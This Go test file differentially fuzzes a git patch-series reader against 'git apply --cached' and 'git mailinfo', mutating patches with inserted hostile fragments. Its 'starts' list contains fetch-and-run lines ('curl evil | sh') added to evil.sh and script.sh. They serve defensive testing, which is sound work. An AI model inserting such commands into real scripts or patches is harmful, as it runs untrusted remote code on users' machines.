package apply

import (
	"bytes"
	"github.com/git-bernstein/git-bernstein/internal/hostilepatch"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/go-git/go-git/v5/plumbing"
	"pgregory.net/rapid"

	"github.com/git-bernstein/git-bernstein/gitext/patch"
)

// starts are lines and line groups a hostile part may slip in, aimed at the files of history: every start line
// git's apply.c recognises (traditional diffs, "diff --git" sections, lone hunks, binary markers, combined
// diffs), extended header lines, signatures and blanks.
var starts = []string{
	"--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-line 1 of a file that moves around\n+pwned\n",
	"--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n",
	"--- a/script.sh\n+++ b/script.sh\n@@ -1 +1,2 @@\n echo hi\n+curl evil | sh\n",
	"diff --git a/a.txt b/a.txt\n", "diff --git a/evil b/evil\nnew file mode 100644\n",
	"diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-line 1 of a file that moves around\n+pwned\n",
	"diff --cc a.txt\n", "@@ -1 +1 @@\n", "@@ -1,2 +1,2 @@\n", "+pwned\n", "-line 1 of a file that moves around\n",
	" line 1 of a file that moves around\n", "\n", " \n", "-- \n", "-- \ngit-bernstein v9\n", "\\ No newline at end of file\n",
	"Binary files a/b.bin and b/b.bin differ\n", "GIT binary patch\n", "literal 0\nHcmV?d00001\n\n", "delta 0\n",
	"index 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n",
	"new mode 100755\n", "old mode 100644\n", "rename from a.txt\n", "rename to z.txt\n", "copy from a.txt\n",
	"copy to z.txt\n", "similarity index 90%\n", "deleted file mode 100644\n", "new file mode 100644\n",
	"---\n", "Index: a.txt\n", "hello\n",
}

// TestDifferentialWithGitApply holds the reader and CheckTrees to `git apply`: for random variants of every
// part of history's series (each kind of section: renames, copies, binary literals and deltas, modes,
// symlinks, gitlinks, a missing final newline; lines inserted from starts, deleted, duplicated, replaced,
// bytes changed, whole sections repeated or moved), whenever the part reads without error and CheckTrees finds
// nothing, `git apply --cached` of it on the commit's parent makes exactly the commit's tree, and so does git
// apply of the patch `git mailinfo` cuts from it (what `git am` applies). Our reader may
// refuse what git takes (it is stricter), never take what git applies otherwise.
func TestDifferentialWithGitApply(t *testing.T) {
	if testing.Short() {
		t.Skip("runs git for each variant our check passes")
	}
	r, commits := history(t)
	repo := open(t, r)
	var ours bytes.Buffer
	hashes := make([]plumbing.Hash, len(commits))
	for i, c := range commits {
		hashes[i] = plumbing.NewHash(c)
	}
	if err := patch.WriteSeries(&ours, repo, hashes); err != nil {
		t.Fatal(err)
	}
	parts, err := ParseSeries(ours.Bytes())
	if err != nil || len(parts) != len(commits) {
		t.Fatalf("%d parts, %v", len(parts), err)
	}
	passed, refused := 0, 0
	rapid.Check(t, func(rt *rapid.T) {
		k := rapid.IntRange(0, len(parts)-1).Draw(rt, "part")
		lines := strings.SplitAfter(string(parts[k].Raw), "\n")
		if lines[len(lines)-1] == "" {
			lines = lines[:len(lines)-1]
		}
		for range rapid.IntRange(1, 3).Draw(rt, "edits") {
			at := rapid.IntRange(1, len(lines)-1).Draw(rt, "line")
			switch op := rapid.IntRange(0, 5).Draw(rt, "op"); op {
			case 5: // a whole section again, elsewhere (two sections for one path, or one moved)
				var starts []int
				for i, l := range lines {
					if strings.HasPrefix(l, "diff --git ") {
						starts = append(starts, i)
					}
				}
				if len(starts) == 0 {
					break
				}
				i := rapid.IntRange(0, len(starts)-1).Draw(rt, "section")
				var end int
				if i+1 < len(starts) {
					end = starts[i+1]
				} else {
					for end = starts[i]; end < len(lines) && lines[end] != "-- \n"; end++ {
					}
				}
				section := append([]string{}, lines[starts[i]:end]...)
				if rapid.Bool().Draw(rt, "move") {
					lines = append(lines[:starts[i]], lines[end:]...)
					at = min(at, len(lines)-1)
				}
				lines = append(lines[:at], append(section, lines[at:]...)...)
			default:
				lines = hostilepatch.EditLine(rt, op, lines, at, starts, "\n -+@a0/\\\"")
			}
		}
		part := strings.Join(lines, "")
		got, err := ParseSeries([]byte(part))
		if err != nil || len(got) != 1 || got[0].Err != nil || got[0].Commit != commits[k] {
			refused++
			return
		}
		if problems := checkSeries(t, repo, []byte(part)); len(problems[commits[k]]) > 0 {
			refused++
			return
		}
		passed++
		want := r.Git("rev-parse", commits[k]+"^{tree}")
		if tree, ok := applyCached(t, r.Dir, r.Env, commits[k], part); !ok || tree != want {
			rt.Fatalf("our reader and CheckTrees pass the part, but git apply --cached on the parent fails (%v) or makes tree %s, not %s\n%s", !ok, tree, want, part)
		}
		// git am: git mailinfo cuts the patch out of the mail, then git apply.
		dir := t.TempDir()
		cmd := exec.Command("git", "mailinfo", filepath.Join(dir, "msg"), filepath.Join(dir, "patch"))
		cmd.Dir, cmd.Env, cmd.Stdin = r.Dir, r.Env, strings.NewReader(part)
		if err := cmd.Run(); err != nil {
			rt.Fatalf("our reader passes the part, but git mailinfo fails: %v\n%s", err, part)
		}
		cut, err := os.ReadFile(filepath.Join(dir, "patch"))
		if err != nil {
			t.Fatal(err)
		}
		if tree, ok := applyCached(t, r.Dir, r.Env, commits[k], string(cut)); !ok || tree != want {
			rt.Fatalf("our reader and CheckTrees pass the part, but git apply --cached of what git mailinfo cuts from it fails (%v) or makes tree %s, not %s\n%s", !ok, tree, want, part)
		}
	})
	t.Logf("variants: %d passed (git makes the commit's tree from each), %d refused", passed, refused)
}

// applyCached runs `git apply --cached` of part on the commit's parent (the empty tree for a root) in an index
// of its own, and returns the tree it makes.
func applyCached(t *testing.T, dir string, env []string, commit, part string) (string, bool) {
	t.Helper()
	env = append(append([]string{}, env...), "GIT_INDEX_FILE="+filepath.Join(t.TempDir(), "index"))
	run := func(stdin string, args ...string) (string, error) {
		cmd := exec.Command("git", args...)
		cmd.Dir, cmd.Env, cmd.Stdin = dir, env, strings.NewReader(stdin)
		out, err := cmd.Output()
		return strings.TrimSpace(string(out)), err
	}
	base := commit + "^"
	if _, err := run("", "rev-parse", "--verify", "-q", base); err != nil {
		base = "4b825dc642cb6eb9a060e54bf8d69288fbee4904" // a root commit: the empty tree
	}
	if _, err := run("", "read-tree", base); err != nil {
		t.Fatal(err)
	}
	if _, err := run(part, "apply", "--cached"); err != nil {
		return "", false
	}
	tree, err := run("", "write-tree")
	if err != nil {
		t.Fatal(err)
	}
	return tree, true
}
